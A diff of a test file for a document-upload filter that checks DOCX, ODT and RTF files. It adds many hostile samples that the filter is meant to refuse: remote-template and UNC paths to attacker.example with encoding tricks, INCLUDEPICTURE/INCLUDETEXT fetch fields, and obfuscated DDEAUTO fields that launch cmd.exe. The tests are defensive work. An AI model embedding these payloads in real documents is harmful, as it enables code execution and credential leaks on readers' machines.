@@ -64,7 +64,7 @@ def odt(content: str) -> bytes:
         for member in real.infolist():
             text = real.read(member)
             if member.filename == "content.xml":
-                text = re.sub(rb"(<office:text[^>]*>)", rb"\1" + content.encode(), text, count=1)
+                text = re.sub(rb"<office:text[^>]*>", lambda found: found[0] + content.encode(), text, count=1)
                 assert content.encode() in text
             made.writestr(member, text)
     return out.getvalue()
@@ -84,7 +84,17 @@ def test_links_that_somebody_has_to_click_pass() -> None:
 
 
 @pytest.mark.parametrize(
-    "target", [r"file:///C:\Users\Marit\Templates\CV.dotx", r"C:\Templates\CV.dotx", "CV.dotx", "/Users/marit/CV.dotx"]
+    "target",
+    [
+        r"file:///C:\Users\Marit\Templates\CV.dotx",
+        "file:///C:/Users/Marit%20Solheim/CV%2525.dotx",
+        "file://localhost/Users/marit/CV.dotx",
+        "file:///Users/marit/CV.dotx",
+        "file:CV.dotx",
+        r"C:\Templates\CV.dotx",
+        "CV.dotx",
+        "/Users/marit/CV.dotx",
+    ],
 )
 def test_a_template_of_the_writers_own_disk_passes_for_word_notes_it_in_every_document(target: str) -> None:
     assert extension(related("attachedTemplate", target)) == "docx"
@@ -101,6 +111,19 @@ def test_a_template_of_the_writers_own_disk_passes_for_word_notes_it_in_every_do
         "file://attacker.example/share/x.dotm",
         "file:////attacker.example/share/x.dotm",
         "ms-word:ofe|u|https://attacker.example/x",
+        r"file:///\\192.0.2.1\share\t.dotm",
+        "file:///%5C%5Cattacker.example%5Cs%5Ct.dotm",
+        "file:///%255C%25255Cattacker.example%5Ct.dotm",
+        r"file:///\attacker@80\s\t.dotm",
+        r"file:///\\attacker.example@SSL@443\s\t.dotm",
+        "file:///attacker.example/s/t.dotm",
+        r"file:\\attacker.example\s\t.dotm",
+        "%2F%2Fattacker.example/t.dotm",
+        "%5c/attacker.example/t.dotm",
+        r"\??\UNC\attacker.example\s\t.dotm",
+        "&#9;//attacker.example/t.dotm",
+        "/%09/attacker.example/t.dotm",
+        "%2525252525252Fattacker.example",
     ],
 )
 def test_what_comes_from_another_machine_is_refused(kind: str, target: str) -> None:
@@ -121,9 +144,37 @@ def test_macros_are_refused_wherever_they_are_named() -> None:
     assert refused(odt(event)) == UploadReason.MACROS
 
 
+BEGIN, SEPARATE, END = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end"))
+
+
+def told(*pieces: str) -> str:
+    return "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
+
+
+QUOTED = f"{BEGIN}{told(' QUOTE 68 68 69 65 85 84 79 ')}{SEPARATE}<w:r><w:t>DDEAUTO</w:t></w:r>{END}"
+PICTURE = ("INCLUDEPI", 'CTURE "ht', 'tp://attacker.example/a.png" \\d')
+
+
 @pytest.mark.parametrize(
     ("body", "reason"),
     [
+        (f"{BEGIN}{told(*PICTURE)}{END}", UploadReason.LOADS),
+        (
+            f"{BEGIN}{told('INCLUDEPICTURE ', chr(34) + '//attacker', '.example/a.png' + chr(34))}{END}",
+            UploadReason.LOADS,
+        ),
+        ('<w:fldSimple w:instr="INCLUDEPICTURE &quot;http://attacker.example/a.png&quot; \\d"/>', UploadReason.LOADS),
+        (
+            '<w:fldSimple w:instr="INCLUDEPICTURE &quot;\\\\\\\\attacker.example\\\\a.png&quot;"/>',
+            UploadReason.LOADS,
+        ),
+        (f"{BEGIN}{told('INCLUDEPICTURE ')}{QUOTED}{END}", UploadReason.LOADS),
+        (f"{BEGIN}{told('INCLUDETEXT' + ' ' * 9_000)}{told('http://attacker.example/a')}{END}", UploadReason.LOADS),
+        (f"{BEGIN}{QUOTED}{told(' cmd x')}{END}", UploadReason.ACTIVE),
+        (f"{BEGIN}{told('DD')}{QUOTED}{told('AUTO cmd x')}{END}", UploadReason.ACTIVE),
+        (f'{BEGIN}<w:fldSimple w:instr="QUOTE 68 68 69"/>{told(" cmd x")}{END}', UploadReason.ACTIVE),
+        (f"{BEGIN}<w:r><w:t>DDE</w:t></w:r><w:r><w:tab/></w:r>{told('cmd x')}{END}", UploadReason.ACTIVE),
+        (f"{BEGIN}{told('PAGE')}{SEPARATE}{BEGIN}{told('DDE cmd x')}{END}{END}", UploadReason.ACTIVE),
         ('<w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" </w:instrText>', UploadReason.ACTIVE),
         ("<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO x</w:instrText></w:r>", UploadReason.ACTIVE),
         ('<w:fldSimple w:instr=" dde Excel x y "/>', UploadReason.ACTIVE),
@@ -141,6 +192,7 @@ def test_a_field_that_runs_or_fetches_is_refused(body: str, reason: UploadReason
         ('<text:p><draw:object-ole xlink:href="./Object 1"/></text:p>', UploadReason.CARRIES_FILES),
         ('<text:p><draw:plugin xlink:href="x"/></text:p>', UploadReason.CARRIES_FILES),
         ('<draw:frame><draw:image xlink:href="https://attacker.example/x.png"/></draw:frame>', UploadReason.LOADS),
+        (r'<draw:frame><draw:image xlink:href="file:///\\attacker/a.png"/></draw:frame>', UploadReason.LOADS),
         (
             '<text:section><text:section-source xlink:href="//attacker.example/x"/></text:section>',
             UploadReason.LOADS,
@@ -150,6 +202,21 @@ def test_a_field_that_runs_or_fetches_is_refused(body: str, reason: UploadReason
 )
 def test_an_odt_that_fetches_or_carries_is_refused(content: str, reason: UploadReason) -> None:
     assert refused(odt(content)) == reason
+
+
+@pytest.mark.parametrize(
+    "instruction",
+    [
+        'HYPERLINK "https://marit.example/dde/"',
+        'INCLUDEPICTURE "C:\\\\Users\\\\Marit\\\\photo.png" \\* MERGEFORMAT \\d',
+        'INCLUDEPICTURE "cid:image001.png@01D8" \\* MERGEFORMATINET',
+        "ADDIN ZOTERO_ITEM CSL_CITATION " + '{"uri":["http://zotero.example/DDE"]}' * 1_000,
+    ],
+)
+def test_a_field_that_stays_on_this_machine_or_waits_for_a_click_passes(instruction: str) -> None:
+    nested = f"{BEGIN}{told('IF ')}{BEGIN}{told('PAGE')}{END}{told(' = 1 ')}{END}"
+    sum_of = f"{BEGIN}{told('=')}{BEGIN}{told('PAGE')}{END}{told('+1')}{END}"
+    assert extension(document(f"{BEGIN}{told(instruction)}{SEPARATE}me{END}{nested}{sum_of}")) == "docx"
 
 
 LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
@@ -217,22 +284,49 @@ def rtf(group: bytes) -> bytes:
 
 
 @pytest.mark.parametrize(
-    "group",
+    ("group", "reason"),
     [
-        rb"{\*\template https://attacker.example/x.dotm}",
-        rb"{\*\template \\\\attacker.example\\x.dotm}",
-        rb"{\*\template \u104?\u116?\u116?\u112?}",
-        rb'{\field{\*\fldinst { INCLUDETEXT "https://attacker.example/x"}}}',
-        rb"{\field{\*\fldinst DDEAUTO cmd x}}",
+        (rb"{\*\template https://attacker.example/x.dotm}", UploadReason.LOADS),
+        (rb"{\*\template \\\\attacker.example\\x.dotm}", UploadReason.LOADS),
+        (rb"{\*\template file:///\'5c{\\}attacker.example\\x.dotm}", UploadReason.LOADS),
+        (rb"{\*\template \u104?\u116?\u116?\u112?}", UploadReason.SUSPICIOUS),
+        (rb"{\shp{\sp{\sn pibName}{\sv \\\\attacker.example\\a.png}}}", UploadReason.LOADS),
+        (rb'{\field{\*\fldinst { INCLUDETEXT "https://attacker.example/x"}}}', UploadReason.LOADS),
+        (rb'{\field{\*\fldinst {INCLUDE}{TEXT "ht}{tps://attacker.example/x"}}}', UploadReason.LOADS),
+        (rb'{\field{\*\fldinst INCLUDEPICTURE "http://attacker.example/a" \\d}}', UploadReason.LOADS),
+        (rb"{\field{\*\fldinst LINK Word.Document.8 \\\\attacker.example\\a.doc \\a}}", UploadReason.LOADS),
+        (rb"{\field{\*\fldinst DDEAUTO cmd x}}", UploadReason.ACTIVE),
+        (rb"{\field{\*\fldinst {DD}{EAUTO} c:\\cmd.exe}}", UploadReason.ACTIVE),
+        (rb"{\field{\*\fldinst DD\'45AUTO c:\\cmd.exe}}", UploadReason.ACTIVE),
+        (rb"{\field{\*\fldinst \'44\'44\'45AUTO c:\\cmd.exe}}", UploadReason.ACTIVE),
+        (rb"{\field{\*\fldinst \u68?DEAUTO c:\\cmd.exe}}", UploadReason.SUSPICIOUS),
+        (rb"{\field{\*\fldinst D\u68?EAUTO c:\\cmd.exe}}", UploadReason.SUSPICIOUS),
+        (rb"{\field{\*\fldinst \uc3\u160 abcDDEAUTO c:\\cmd.exe}}", UploadReason.SUSPICIOUS),
+        (b"{\\field{\\*\\fldinst D\nDE\r\nAUTO c:\\\\cmd.exe}}", UploadReason.ACTIVE),
+        (rb"{\field{\*\fldinst {\*\unknown PAGE }DDEAUTO cmd x}}", UploadReason.ACTIVE),
+        (rb"{\field{\*\fldinst {\info{\title PAGE }}DDEAUTO cmd x}}", UploadReason.ACTIVE),
+        (rb"{\field{\*\fldinst {\*\cs10 DDEAUTO} cmd x}}", UploadReason.ACTIVE),
+        (rb"{\field{\*\fldinst {\field{\*\fldinst QUOTE 68 68 69}{\fldrslt DDE}} cmd x}}", UploadReason.ACTIVE),
+        (rb"{\field{\*\fldinst \bin3 }}}DDEAUTO cmd x}}", UploadReason.SUSPICIOUS),
+        (rb"{\field{\*\fldinst " + b"{" * 9_000 + b"DDE" + b"}" * 9_000 + b" cmd x}}", UploadReason.ACTIVE),
+        (rb"{\field{\*\fldinst " * 30 + b"}}" * 30, UploadReason.ACTIVE),
     ],
 )
-def test_an_rtf_that_fetches_or_runs_is_refused(group: bytes) -> None:
-    assert refused(rtf(group)) == UploadReason.LOADS
+def test_an_rtf_that_fetches_or_runs_is_refused(group: bytes, reason: UploadReason) -> None:
+    assert refused(rtf(group)) == reason
+
+
+@pytest.mark.parametrize("short", range(0, 160, 3))
+def test_a_field_is_found_across_pieces_too(short: int) -> None:
+    padding = b"x" * (64 * 1024 - short - len(files.real("cv.rtf").rstrip()) + 1)
+    assert refused(rtf(padding + rb"{\field{\*\fldinst DDEAUTO cmd x}}")) == UploadReason.ACTIVE
 
 
 def test_an_rtf_with_a_template_of_the_writers_own_disk_and_a_link_passes() -> None:
     assert extension(rtf(rb"{\*\template C:\\Users\\Jos\u233?\\CV.dotx}")) == "rtf"
     assert extension(rtf(rb'{\field{\*\fldinst { HYPERLINK "https://marit.example/"}}{\fldrslt me}}')) == "rtf"
+    cited = b'ADDIN ZOTERO_ITEM {"uri":"http://zotero.example/DDE \\u233?"}' * 2_000
+    assert extension(rtf(rb"{\field{\*\fldinst {" + cited + rb"{\*\datafield 00d0c9}}}{\fldrslt [1]}}")) == "rtf"
 
 
 @pytest.mark.parametrize("stream", ["\x03ObjInfo", "\x01Ole10Native", "Equation Native"])
